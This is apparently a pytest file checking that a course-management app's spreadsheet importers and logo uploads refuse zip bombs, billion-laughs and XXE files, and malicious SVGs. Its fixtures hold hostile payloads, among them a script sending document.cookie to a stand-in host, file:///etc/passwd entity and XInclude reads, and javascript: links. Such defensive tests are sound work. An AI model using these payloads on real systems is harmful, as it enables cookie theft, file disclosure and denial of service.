"""Abuse and bad input, uploads: what a hostile or broken file does to the importers and to
the certificate logos.

Every bad file is refused with a message that says what is wrong with it, without
unpacking more than a real file holds, and without writing anything: no database row, no
stashed upload, no logo. Hypothesis then throws random tables at the three importers
(participants, agenda, MSEL) and at the identity parsers they use.

The hostile files are built in tests/support/hostile_files.py. What judging them costs, in time and
memory, is measured in benchmarks/hostile_uploads.py (make bench), not here.
"""
from __future__ import annotations

import base64
import io
import itertools
import logging
import os
import random
import re
import struct
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from datetime import time as clock
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile, PngImagePlugin

from bimtek import spreadsheets
from bimtek.certificates import storage
from bimtek.certificates.logos import logo_format
from bimtek.courses import agenda_import
from bimtek.courses.models import Course, Room, Session
from bimtek.errors import ValidationError
from bimtek.exercises import msel
from bimtek.extensions import db
from bimtek.institutions.models import Institution
from bimtek.pdf import render_pdf
from bimtek.registration import spreadsheet as participant_import
from bimtek.registration.identity import (
    format_nip,
    normalise_phone,
    parse_nik,
    parse_nip,
)
from bimtek.registration.models import Registration
from bimtek.speakers.models import Speaker
from bimtek.spreadsheets import (
    MAX_COLUMNS,
    MAX_ROWS,
    MAX_SHEET_ROWS,
    Columns,
    UploadStash,
    header_key,
    read_table,
)
from tests.exercises.factories import ExerciseSetting, exercise_setting
from tests.factories import make_course
from tests.registration.factories import nik
from tests.support import hostile_files
from tests.support.hostile_files import (
    AGENDA_HEADER,
    EVERY_HEADER,
    MB,
    MSEL_HEADER,
    PARTICIPANTS_HEADER,
    PNG_SIGNATURE,
    SHEET,
    SHEET_HEAD,
    SHEET_TAIL,
    Raw,
    a_row,
    csv_bytes,
    damaged_member,
    declared_sizes,
    far_row_workbook,
    last_column_workbook,
    long_csv,
    lying_zip_bomb,
    numbered_rows,
    png,
    png_chunk,
    png_declaring,
    png_with_comment,
    sheet_of,
    workbook,
    workbook_with_blank_rows,
    xml_row,
    zip_bomb,
)
from tests.support.web import csrf_token, login

# --- the world the files are thrown at -------------------------------------------------

@pytest.fixture
def world(english) -> ExerciseSetting:
    """A course of Kutai Timur with participants, an exercise in draft with its MSEL, and
    its organiser, inside an English request context (which the test client's requests
    share, with its language)."""
    return exercise_setting()


def database_rows() -> dict[str, list]:
    """Every row of every table. Committing first ends this session's transaction, so the
    rows are read afresh, and would make anything a preview left pending show up here."""
    db.session.commit()
    return {table.name: sorted((tuple(row) for row in db.session.execute(table.select())),
                               key=repr)
            for table in db.metadata.sorted_tables}


def count(model, *where) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model).where(*where))


def stashed(app) -> set[Path]:
    """The uploads kept for a confirmation, of every importer."""
    return {path for path in Path(app.instance_path).glob("*-imports/**/*") if path.is_file()}


_codes = itertools.count(1)


@dataclass(frozen=True)
class Importer:
    """One of the three imports, as the tests drive it: a fresh target (a course, or the
    exercise) to import into, its preview, its confirmation, and what a success wrote."""

    name: str
    columns: Columns
    header: tuple[str, ...]

    def url(self, world: ExerciseSetting) -> str:
        code = world.course.code
        return {"participants": f"/courses/{code}/participants/import",
                "agenda": f"/courses/{code}/agenda/import",
                "msel": f"/courses/{code}/exercises/{world.exercise.id}/msel/import",
                }[self.name]

    def target(self, world: ExerciseSetting):
        if self.name == "msel":
            return world.exercise
        # A new course each time, so that one example's participants and sessions are
        # never in the way of the next.
        return make_course(f"ABUSE-{next(_codes)}")

    @staticmethod
    def course_of(target) -> Course:
        return target if isinstance(target, Course) else target.course

    def preview(self, target, filename: str, data: bytes):
        if self.name == "participants":
            return participant_import.preview_participants(target, filename, data,
                                                           waitlist=False)
        if self.name == "agenda":
            return agenda_import.preview_import(target, filename, data)
        return msel.preview_msel(target, filename, data)

    def confirm(self, stash: UploadStash, target, name: str, preview):
        if self.name == "participants":
            return participant_import.confirm_upload(stash, name, waitlist=False)
        if self.name == "agenda":
            return agenda_import.confirm_upload(stash, name, preview.agenda_version)
        return msel.confirm_upload(stash, target, name)

    def written(self, target) -> tuple[int, ...]:
        return (count(Registration), count(Session), count(Speaker), count(Room),
                count(Institution), len(target.injects) if self.name == "msel" else 0)

    def check_success(self, target, preview, result, before: tuple[int, ...]) -> None:
        """Every previewed row, and nothing else, was written."""
        db.session.expire_all()
        after = self.written(target)
        if self.name == "participants":
            assert sorted(r.nik for r in result) == sorted(row.nik for row in preview.rows)
            assert count(Registration, Registration.course_id == target.id) == len(
                preview.rows) == after[0] - before[0]
            assert after[1:] == before[1:]
        elif self.name == "agenda":
            assert count(Session, Session.course_id == target.id) == len(preview.rows)
            assert after[:5] == (before[0], before[1] + len(preview.rows),
                                 before[2] + len(preview.speakers_created),
                                 before[3] + len(preview.rooms_created),
                                 before[4] + len(preview.institutions_created))
        else:
            assert sorted((i.number, i.message) for i in target.injects) == sorted(
                (row.number, row.message) for _row, row in preview.rows)
            assert after[:5] == before[:5]


PARTICIPANTS = Importer("participants", participant_import.COLUMNS, PARTICIPANTS_HEADER)
AGENDA = Importer("agenda", agenda_import.COLUMNS, AGENDA_HEADER)
MSEL = Importer("msel", msel.COLUMNS, MSEL_HEADER)
IMPORTERS = (PARTICIPANTS, AGENDA, MSEL)


def import_once(importer: Importer, world: ExerciseSetting, filename: str, data: bytes,
                folder: Path):
    """Preview, then confirm as the view does. Whatever the file, nothing but the app's
    ValidationError may come out, and a refused file leaves the database as it was."""
    target = importer.target(world)
    before_rows = database_rows()
    before = importer.written(target)
    try:
        preview = importer.preview(target, filename, data)
        stash = UploadStash(folder, importer.course_of(target))
        name = stash.keep(filename, data)
        try:
            result = importer.confirm(stash, target, name, preview)
        except ValidationError as error:
            assert error.message
            assert not preview.ok, f"a clean preview was refused: {error.message}"
            assert database_rows() == before_rows, "a refused import wrote something"
        else:
            assert preview.ok
            importer.check_success(target, preview, result, before)
        assert all(message for _row, message in preview.errors)
        return preview
    finally:
        db.session.rollback()


# --- building files by hand ------------------------------------------------------------
# The hostile files themselves are built in tests/support/hostile_files.py, which the benchmark of
# what judging them costs (benchmarks/hostile_uploads.py) shares.

def xlsx(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def as_organiser(client, world: ExerciseSetting, locale: str = "en") -> None:
    login(client, world.organiser.email)
    with client.session_transaction() as session:
        session["locale"] = locale


def upload(client, url: str, data: bytes, filename: str):
    token = csrf_token(client)
    return client.post(url, data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
                       follow_redirects=True)


# --- 1. zip bombs and damaged workbooks ------------------------------------------------

TOO_LARGE_UNPACKED = ("The spreadsheet is too large when unpacked (more than 50 MB); remove "
                      "what is not needed or split it.")
PACKED_TOO_TIGHTLY = ("The spreadsheet is packed far more tightly than a real one can be; "
                      "it is not read. Save it again from Excel.")
NOT_A_WORKBOOK = "The file could not be read as an Excel workbook (.xlsx)."
NOT_CSV = "The file could not be read as CSV text."
TOO_MANY_ROWS = f"The file has more than {MAX_ROWS} rows; split it into smaller files."


@dataclass
class Unpacking:
    """What was done with the workbooks uploaded: openpyxl asked to open one, and the
    bytes unpacked of each zip member (by name; a member whose reading was begun is there
    even when no byte came out)."""

    opened: list = field(default_factory=list)
    unpacked: Counter = field(default_factory=Counter)


def watch_unpacking(monkeypatch, *, forbid_openpyxl: bool = False) -> Unpacking:
    """From now on, what is unpacked of any zip; with `forbid_openpyxl`, openpyxl may not
    open a workbook at all: the file must be judged before that. (Were it called, the
    failure would come out as 'could not be read', not the message the tests expect, and
    `opened` says so.) Call it once the files are built: building them unpacks too."""
    seen = Unpacking()
    read = zipfile.ZipExtFile.read

    def counted_read(self, size=-1):
        seen.unpacked[self.name] += 0
        data = read(self, size)
        seen.unpacked[self.name] += len(data)
        return data

    def load_workbook(*args, **kwargs):
        seen.opened.append(args)
        raise AssertionError("openpyxl was asked to open the workbook")

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted_read)
    if forbid_openpyxl:
        monkeypatch.setattr(openpyxl, "load_workbook", load_workbook)
    return seen


@pytest.mark.parametrize("importer", IMPORTERS, ids=lambda importer: importer.name)
def test_a_zip_bomb_is_refused_before_anything_is_unpacked(app, client, world, importer,
                                                           monkeypatch):
    bomb = zip_bomb()
    assert len(bomb) < MB and declared_sizes(bomb) > 250 * MB
    as_organiser(client, world)
    before, kept = database_rows(), stashed(app)
    seen = watch_unpacking(monkeypatch, forbid_openpyxl=True)
    response = upload(client, importer.url(world), bomb, "daftar.xlsx")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert TOO_LARGE_UNPACKED in page and "Nothing has been written." in page
    assert seen.opened == [] and not seen.unpacked
    assert database_rows() == before and stashed(app) == kept


def test_a_workbook_packed_tighter_than_any_real_one_is_refused(world, tmp_path,
                                                                monkeypatch):
    dense = zip_bomb(40)  # under the size limit, but packed some 300 to 1
    assert declared_sizes(dense) < 50 * MB
    seen = watch_unpacking(monkeypatch, forbid_openpyxl=True)
    for importer in IMPORTERS:
        preview = import_once(importer, world, "daftar.xlsx", dense, tmp_path)
        assert preview.errors == [(None, PACKED_TOO_TIGHTLY)], importer.name
    assert seen.opened == [] and not seen.unpacked


def test_a_zip_understating_its_sizes_is_unpacked_no_further_than_it_says(world, tmp_path,
                                                                          monkeypatch):
    # Its sheet really holds 250 MB; the zip's directory says 4 KB, so it passes the size
    # check, and Python's zipfile stops at 4 KB and finds the checksum wrong.
    liar = lying_zip_bomb()
    assert declared_sizes(liar) < MB
    seen = watch_unpacking(monkeypatch)
    for importer in IMPORTERS:
        preview = import_once(importer, world, "daftar.xlsx", liar, tmp_path)
        assert preview.errors == [(None, NOT_A_WORKBOOK)], importer.name
        # The sheet was begun, and nothing came out of it beyond the 4 KB declared.
        assert SHEET in seen.unpacked and seen.unpacked[SHEET] <= 4096, importer.name
        seen.unpacked.clear()


def _entity_bomb_sheet() -> bytes:
    # Eight levels of ten: 100 MB of text from a few hundred bytes, if a parser expanded it.
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {name} "{("&" + previous + ";") * 10}">'
        for previous, name in zip("abcdefg", "bcdefgh", strict=True))
    return workbook([f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>'.encode(),
                     SHEET_HEAD.partition(b"?>")[2], xml_row(EVERY_HEADER),
                     b'<row><c t="inlineStr"><is><t>&h;</t></is></c></row>', SHEET_TAIL])


def _zip_of(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _good_sheet() -> bytes:
    return sheet_of([EVERY_HEADER, a_row()])


BROKEN_FILES = {
    "text-named-xlsx": ("daftar.xlsx", lambda: b"Nama;NIK\nPeserta;6408012810860001\n",
                        NOT_A_WORKBOOK),
    "pdf-named-xlsx": ("daftar.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
                       NOT_A_WORKBOOK),
    "empty-xlsx": ("daftar.xlsx", lambda: b"", NOT_A_WORKBOOK),
    "zip-without-a-workbook": ("daftar.xlsx", lambda: _zip_of(**{"baca.txt": b"halo"}),
                               NOT_A_WORKBOOK),
    "damaged-sheet-member": ("daftar.xlsx", lambda: damaged_member(_good_sheet(), SHEET),
                             NOT_A_WORKBOOK),
    "cut-in-half": ("daftar.xlsx", lambda: _good_sheet()[:len(_good_sheet()) // 2],
                    NOT_A_WORKBOOK),
    "sheet-not-xml": ("daftar.xlsx", lambda: workbook([SHEET_HEAD, b"<row><c>"]),
                      NOT_A_WORKBOOK),
    "sheet-with-entity-bomb": ("daftar.xlsx", _entity_bomb_sheet, NOT_A_WORKBOOK),
    "old-excel": ("daftar.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
                  "daftar.xls is neither an Excel workbook (.xlsx) nor a CSV file (.csv)."),
    "random-bytes-csv": ("daftar.csv", lambda: random.Random(8).randbytes(4096), NOT_CSV),
    "utf16-csv": ("daftar.csv", lambda: ";".join(EVERY_HEADER).encode("utf-16"), NOT_CSV),
    "nul-in-a-csv-cell": ("daftar.csv", lambda: csv_bytes(
        [EVERY_HEADER, ["Pes\x00erta", *a_row()[1:]]]), NOT_CSV),
    "one-huge-csv-cell": ("daftar.csv", lambda: csv_bytes(
        [EVERY_HEADER, ["x" * MB, *a_row()[1:]]]), NOT_CSV),
}


@pytest.mark.parametrize("case", BROKEN_FILES)
def test_a_broken_file_gets_a_clear_message_and_nothing_is_written(world, tmp_path, case):
    filename, build, message = BROKEN_FILES[case]
    data = build()
    for importer in IMPORTERS:
        preview = import_once(importer, world, filename, data, tmp_path)
        assert preview.errors == [(None, message)], importer.name


@pytest.mark.parametrize("case", ["text-named-xlsx", "damaged-sheet-member",
                                  "nul-in-a-csv-cell"])
def test_the_upload_pages_show_a_broken_files_message_not_a_server_error(app, client, world,
                                                                        case):
    filename, build, message = BROKEN_FILES[case]
    as_organiser(client, world)
    before, kept = database_rows(), stashed(app)
    for importer in IMPORTERS:
        response = upload(client, importer.url(world), build(), filename)
        assert response.status_code == 200, importer.name
        assert message in response.get_data(as_text=True), importer.name
    assert database_rows() == before and stashed(app) == kept


# Cells a crafted sheet can hold that no spreadsheet program writes: infinite, longer than
# a float, smaller than the smallest float, larger than the database's integers.
RAW_NUMBERS = (Raw("1E999"), Raw("-1E999"), Raw("9" * 400), Raw("1e-400"), Raw("99999999999"))
VALID_ROWS = {
    "participants": ["Peserta 1", nik(1), "L", "KPU Kutim", "PPK", "0812-3456-7890", ""],
    "agenda": ["28/10/2024", "08.00", "09.00", "Materi", "Materi", "Ruang 1", "Budi Santoso",
               "KPU Kutim", 2],
    "msel": [1, 0, "Pesan", "Semua tim", "Pesan uji", "1"],
}
# The cells that made a server error before: the fix gives these messages.
RAW_NUMBER_MESSAGES = {
    ("participants", "NIK", "9" * 400): "Row 2: The NIK must have 16 digits, not 400.",
    ("participants", "NIP", "9" * 400): "Row 2: The NIP must have 18 digits, not 400.",
    ("agenda", "Mulai", "1E999"): "Row 2: Mulai (Start) 'inf' is not a time; write it like "
                                  "08.00.",
    ("agenda", "Selesai", "-1E999"): "Row 2: Selesai (End) '-inf' is not a time; write it "
                                     "like 08.00.",
    ("msel", "No", "99999999999"): "Row 2: No (Number): The number must be between 1 and "
                                     "99999.",
}


@pytest.mark.parametrize("importer", IMPORTERS, ids=lambda importer: importer.name)
def test_numbers_no_spreadsheet_program_writes_are_refused_by_row(world, tmp_path, importer):
    assert import_once(importer, world, "x.xlsx", sheet_of(
        [importer.header, VALID_ROWS[importer.name]]), tmp_path).ok
    for position, column in enumerate(importer.header):
        for number in RAW_NUMBERS:
            row = list(VALID_ROWS[importer.name])
            row[position] = number
            preview = import_once(importer, world, "x.xlsx", sheet_of([importer.header, row]),
                                  tmp_path)
            # An institution name nobody knows is asked about once, naming its rows.
            asked = [unknown.rows for unknown in getattr(preview, "unknown_institutions", [])]
            assert all(at == 2 or (at is None and asked == [[2]])
                                          for at, _message in preview.errors), (column, number)
            expected = RAW_NUMBER_MESSAGES.get((importer.name, column, str(number)))
            if expected:
                assert expected in [message for _row, message in preview.errors]


# --- 2. too many rows, too wide, too large ----------------------------------------------

def test_more_than_10000_rows_are_refused_and_10000_are_read():
    assert len(read_table("daftar.xlsx", workbook(
        [SHEET_HEAD, *numbered_rows(MAX_ROWS, ["Peserta"]), SHEET_TAIL]))) == MAX_ROWS
    with pytest.raises(ValidationError, match=re.escape(TOO_MANY_ROWS)):
        read_table("daftar.xlsx", workbook(
            [SHEET_HEAD, *numbered_rows(MAX_ROWS + 1, ["Peserta"]), SHEET_TAIL]))
    lines = [EVERY_HEADER, *itertools.repeat(a_row(), MAX_ROWS - 1)]
    assert len(read_table("daftar.csv", csv_bytes(lines))) == MAX_ROWS
    with pytest.raises(ValidationError, match=re.escape(TOO_MANY_ROWS)):
        read_table("daftar.csv", csv_bytes([*lines, a_row()]))


def test_every_importer_refuses_a_file_of_too_many_rows(world, tmp_path, monkeypatch):
    # The limit lowered to 50, to try the three importers cheaply; the test above holds
    # the real one.
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 50)
    for fmt, data in (("xlsx", workbook([SHEET_HEAD, *numbered_rows(51), SHEET_TAIL])),
                      ("csv", csv_bytes([EVERY_HEADER, *[a_row()] * 50]))):
        for importer in IMPORTERS:
            assert import_once(importer, world, f"daftar.{fmt}", data, tmp_path).errors == [
                (None, "The file has more than 50 rows; split it into smaller files.")], \
                (importer.name, fmt)


def test_a_row_numbered_in_the_millions_is_refused_as_beyond_the_sheet_limit():
    # openpyxl hands out an empty row for every row number skipped: 5 million of them here,
    # of which no more than MAX_SHEET_ROWS + 1 are read. (What refusing it costs is
    # measured in benchmarks/hostile_uploads.py.)
    with pytest.raises(ValidationError, match=re.escape(
            f"The sheet goes on below row {MAX_SHEET_ROWS}; delete the rows below the list "
            "and save it again.")):
        read_table("daftar.xlsx", far_row_workbook(5_000_000))


def test_only_rows_that_are_not_blank_count_towards_the_limit():
    # A CSV's blank lines are as blank as a sheet's empty rows.
    lines = [EVERY_HEADER, *itertools.repeat(a_row(), MAX_ROWS - 1), [], [""]]
    assert len(read_table("daftar.csv", csv_bytes(lines))) == MAX_ROWS
    # Refused at the first row past the limit, whatever follows.
    single_cells = workbook([SHEET_HEAD, *(xml_row([f"Peserta {n}"], n)
                                           for n in range(1, 3 * MAX_ROWS)), SHEET_TAIL])
    with pytest.raises(ValidationError, match=re.escape(TOO_MANY_ROWS)):
        read_table("daftar.xlsx", single_cells)


def test_blank_rows_excel_keeps_below_the_table_are_not_counted_as_rows():
    # Excel keeps a row that was formatted and then emptied: a cell with a style and no
    # value. 400 participants above 20,000 of them are a list of 400, not 20,400.
    data = workbook_with_blank_rows(400, 20_000)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    assert sheet.count(b"<row ") == 1 + 400 + 20_000 > MAX_ROWS
    table = read_table("daftar.xlsx", data)
    assert len(table) == 1 + 400
    assert table[0][:len(EVERY_HEADER)] == EVERY_HEADER
    assert all(row[:len(EVERY_HEADER)] == tuple(a_row()) for row in table[1:])
    rows = spreadsheets.read_rows("daftar.xlsx", data, participant_import.COLUMNS,
                                  no_rows_message="no rows")
    assert [row.row for row in rows] == list(range(2, 402))


def test_cells_in_the_last_column_do_not_widen_every_row():
    # A cell in column XFD made openpyxl build 16,384 cells for each row: 1.3 GB here.
    table = read_table("daftar.xlsx", last_column_workbook(MAX_ROWS))
    assert len(table) == MAX_ROWS and {len(row) for row in table} == {MAX_COLUMNS}
    assert all(row[0] == "Peserta" and set(row[1:]) == {None} for row in table)


@dataclass
class Outside:
    """The world's addresses, for requests made outside any context of the test's."""

    email: str
    participants_url: str
    settings_url: str


@pytest.fixture
def outside(app) -> Outside:
    """The world built in an app context closed before the test's requests, so that they
    choose their language themselves: Indonesian, as nobody chose another. (Requests made
    inside `world`'s English context share it, and its language.)"""
    with app.app_context():
        world = exercise_setting()
        return Outside(world.organiser.email, PARTICIPANTS.url(world),
                       f"/courses/{world.course.code}/certificates/settings")


def rows_outside(app) -> dict[str, list]:
    with app.app_context():
        return database_rows()


def test_a_50_mb_csv_gets_the_too_large_page_in_indonesian(app, client, outside):
    login(client, outside.email)
    body = long_csv(50)
    before, kept = rows_outside(app), stashed(app)
    response = upload(client, outside.participants_url, body, "peserta.csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "Berkas terlalu besar" in page
    assert "Berkas lebih besar dari 16 MB. Pecah berkas atau buang bagian yang tidak " in page
    assert "Kembali ke dasbor" in page  # the app's own error page, not the server's
    assert rows_outside(app) == before and stashed(app) == kept


def test_a_csv_just_under_16_mb_of_too_many_rows_is_refused_with_a_message(app, client,
                                                                             world):
    as_organiser(client, world)
    body = long_csv(15.5)
    assert 15 * MB < len(body) < 16 * MB
    before, kept = database_rows(), stashed(app)
    response = upload(client, PARTICIPANTS.url(world), body, "peserta.csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert TOO_MANY_ROWS in page and "Nothing has been written." in page
    assert database_rows() == before and stashed(app) == kept


# --- 3. logos ---------------------------------------------------------------------------

def image_as(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(buffer, kind)
    return buffer.getvalue()


def png_with_flipped_pixel_byte() -> bytes:
    data = bytearray(png((64, 64), "green"))
    data[data.index(b"IDAT") + 10] ^= 0xFF
    return bytes(data)


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, prolog: str = "") -> bytes:
    return f'{prolog}<svg {SVG_NS} width="40" height="40">{body}</svg>'.encode()


def svg_in(encoding: str, body: str, prolog: str = "", codec: str | None = None) -> bytes:
    """An SVG declaring `encoding` and written in it (or in `codec`)."""
    return (f'<?xml version="1.0" encoding="{encoding}"?>{prolog}'
            f'<svg {SVG_NS} width="40" height="40">{body}</svg>').encode(codec or encoding)


# What CorelDRAW and Illustrator CS6 and older write.
SVG_11_DOCTYPE = ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                  '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">')


def laughs(levels: int = 9) -> str:
    entities = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {chr(98 + level)} "{("&" + chr(97 + level) + ";") * 10}">'
        for level in range(levels))
    return f"<!DOCTYPE svg [{entities}]>"


NOT_AN_IMAGE = "The logo must be a PNG or SVG image."
DAMAGED_PNG = "The PNG logo is damaged or incomplete; save it again and upload it again."
SCRIPTS = "An SVG logo may not contain scripts."
REFERS = "An SVG logo may not refer to other files or addresses."
TOO_HEAVY = "The logo is larger than 1 MB."
TOO_COMPLEX = "The SVG logo is too complex to draw quickly"
BAD_LOGOS = {
    "random-bytes": ("logo", "logo.png", lambda: random.Random(3).randbytes(4096),
                     NOT_AN_IMAGE),
    "jpeg-named-png": ("logo", "logo.png", lambda: image_as("JPEG"), NOT_AN_IMAGE),
    "gif-named-png": ("logo", "logo.png", lambda: image_as("GIF"), NOT_AN_IMAGE),
    "bmp-named-png": ("partner_logo", "logo.png", lambda: image_as("BMP"), NOT_AN_IMAGE),
    "png-signature-only": ("logo", "logo.png", lambda: PNG_SIGNATURE, DAMAGED_PNG),
    "png-header-without-pixels": ("logo", "logo.png", lambda: PNG_SIGNATURE + png_chunk(
        b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)) + png_chunk(b"IEND", b""),
        DAMAGED_PNG),
    "png-cut-in-half": ("logo", "logo.png", lambda: png((64, 64))[:len(png((64, 64))) // 2],
                        DAMAGED_PNG),
    "png-with-a-flipped-byte": ("logo", "logo.png", png_with_flipped_pixel_byte, DAMAGED_PNG),
    "png-declaring-30000-square": ("logo", "logo.png", lambda: png_declaring(30000, 30000),
                                   "The logo is 30000 × 30000 pixels; it may be at most 4000 "
                                   "pixels wide and high."),
    "png-declaring-30000-square-partner": (
        "partner_logo", "mitra.png", lambda: png_declaring(30000, 30000),
        "The logo is 30000 × 30000 pixels; it may be at most 4000 pixels wide and high."),
    "png-without-its-end": ("logo", "logo.png", lambda: png()[:-12], DAMAGED_PNG),
    "png-with-a-script-after-its-signature": ("logo", "logo.png", lambda: PNG_SIGNATURE + svg(
        "<script>alert(1)</script>"), DAMAGED_PNG),
    "svg-foreign-object": ("logo", "logo.svg", lambda: svg(
        '<foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml">'
        "<iframe src='https://evil.test'/></div></foreignObject>"), SCRIPTS),
    "svg-event-on-a-child": ("partner_logo", "logo.svg", lambda: svg(
        '<rect width="4" height="4" onmouseover="alert(1)"/>'), SCRIPTS),
    "svg-script-in-cdata": ("logo", "logo.svg", lambda: svg(
        "<script><![CDATA[fetch('https://evil.test/'+document.cookie)]]></script>"), SCRIPTS),
    "svg-external-image": ("logo", "logo.svg", lambda: svg(
        '<image xlink:href="http://evil.test/track.png" width="4" height="4"/>'), REFERS),
    "svg-local-file-image": ("logo", "logo.svg", lambda: svg(
        '<image href="file:///etc/passwd" width="4" height="4"/>'), REFERS),
    "svg-external-use": ("logo", "logo.svg", lambda: svg(
        '<use href="https://evil.test/sprite.svg#logo"/>'), REFERS),
    "svg-nested-use-4-levels": ("logo", "logo.svg", lambda: hostile_files.nested_use_svg(4),
                                TOO_COMPLEX),
    "svg-use-of-a-use": ("partner_logo", "logo.svg",
                         lambda: hostile_files.nested_use_svg(2, copies=2), TOO_COMPLEX),
    "svg-javascript-link": ("logo", "logo.svg", lambda: svg(
        '<a href="javascript:alert(1)"><rect width="4" height="4"/></a>'), REFERS),
    "svg-animated-link": ("logo", "logo.svg", lambda: svg(
        '<a href="#x"><set attributeName="xlink:href" to="javascript:alert(1)"/>'
        '<rect width="4" height="4"/></a>'), REFERS),
    "svg-style-import": ("logo", "logo.svg", lambda: svg(
        "<style>@import url(http://evil.test/x.css);</style>"), REFERS),
    "svg-xinclude": ("logo", "logo.svg", lambda: svg(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"'
        ' parse="text"/>'), REFERS),
    "svg-linked-style-sheet": ("logo", "logo.svg", lambda: svg(
        "", prolog='<?xml-stylesheet type="text/css" href="http://evil.test/x.css"?>'),
        REFERS),
    "svg-billion-laughs": ("logo", "logo.svg", lambda: svg(
        "<text>&j;</text>", prolog=laughs()), NOT_AN_IMAGE),
    "svg-billion-laughs-in-utf16": ("logo", "logo.svg", lambda: svg(
        "<text>&j;</text>", prolog=laughs()).decode().encode("utf-16-le"), NOT_AN_IMAGE),
    "svg-entity-smuggling-a-script-in-utf16": ("logo", "logo.svg", lambda: svg(
        "&s;", prolog='<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>'
        ).decode().encode("utf-16"), NOT_AN_IMAGE),
    # Expat reads one-byte encodings through Python's codecs and still reports the DTD.
    "svg-billion-laughs-in-latin-1": ("logo", "logo.svg", lambda: svg_in(
        "ISO-8859-1", "<text>&j; é</text>", prolog=laughs()), NOT_AN_IMAGE),
    "svg-billion-laughs-in-windows-1252": ("logo", "logo.svg", lambda: svg_in(
        "windows-1252", "<text>&j; – é</text>", prolog=laughs()), NOT_AN_IMAGE),
    "svg-billion-laughs-in-koi8-r": ("partner_logo", "logo.svg", lambda: svg_in(
        "KOI8-R", "<text>&j; Ж</text>", prolog=laughs()), NOT_AN_IMAGE),
    "svg-external-entity-in-utf16-with-a-declaration": ("logo", "logo.svg", lambda: svg_in(
        "UTF-16", "<text>&x;</text>", codec="utf-16",
        prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), NOT_AN_IMAGE),
    "svg-11-doctype-with-an-internal-subset": ("logo", "logo.svg", lambda: svg(
        "<text>&x;</text>", prolog=SVG_11_DOCTYPE[:-1] + ' [<!ENTITY x "lol">]>'),
        NOT_AN_IMAGE),
    "svg-doctype-with-only-an-attribute-list": ("logo", "logo.svg", lambda: svg(
        "", prolog='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'), NOT_AN_IMAGE),
    "svg-doctype-with-an-empty-internal-subset": ("logo", "logo.svg", lambda: svg(
        "", prolog="<!DOCTYPE svg []>"), NOT_AN_IMAGE),
    # Encodings expat cannot read: EBCDIC, multi-byte ones (UTF-7 hides markup from a
    # byte search), UTF-32 and names Python does not know.
    "svg-in-ebcdic": ("logo", "logo.svg", lambda: svg_in(
        "cp037", "<text>&j;</text>", prolog=laughs()), NOT_AN_IMAGE),
    "svg-in-utf7": ("logo", "logo.svg", lambda: svg_in(
        "UTF-7", "<script>alert(1)</script>"), NOT_AN_IMAGE),
    "svg-in-shift-jis": ("logo", "logo.svg", lambda: svg_in(
        "Shift_JIS", "<title>県</title>"), NOT_AN_IMAGE),
    "svg-in-utf32": ("logo", "logo.svg", lambda: svg_in(
        "UTF-32", '<circle r="4"/>'), NOT_AN_IMAGE),
    "svg-in-an-unknown-encoding": ("logo", "logo.svg", lambda: svg_in(
        "x-unknown", '<circle r="4"/>', codec="ascii"), NOT_AN_IMAGE),
    "svg-in-a-codec-that-is-not-an-encoding": ("logo", "logo.svg", lambda: svg_in(
        "rot13", '<circle r="4"/>', codec="ascii"), NOT_AN_IMAGE),
    "svg-linked-style-sheet-in-utf16": ("logo", "logo.svg", lambda: svg(
        "", prolog='<?xml-stylesheet type="text/css" href="http://evil.test/x.css"?>'
        ).decode().encode("utf-16"), REFERS),
    "svg-linked-style-sheet-after-the-doctype": ("logo", "logo.svg", lambda: svg(
        "", prolog=SVG_11_DOCTYPE + '<?xml-stylesheet href="http://evil.test/x.css"?>'),
        REFERS),
    "svg-animated-link-in-a-later-value": ("logo", "logo.svg", lambda: svg(
        '<a href="#x"><animate attributeName="href" values="#a; https://evil.test/"'
        ' dur="1s"/><rect width="4" height="4"/></a>'), REFERS),
    "svg-animated-xlink-in-a-later-value": ("partner_logo", "logo.svg", lambda: svg(
        '<a href="#x"><animate attributeName="xlink:href" values="#a;#b;javascript:alert(1)"'
        ' dur="1s"/><rect width="4" height="4"/></a>'), REFERS),
    "png-with-its-end-further-than-4-kb-back": ("logo", "logo.png", lambda: png() + bytes(
        4096 - 11), DAMAGED_PNG),
    "svg-one-byte-over-1-mb": ("logo", "logo.svg", lambda: svg(
        "<!--" + "x" * (MB - len(svg("<!---->")) + 1) + "-->"), TOO_HEAVY),
}


@pytest.fixture
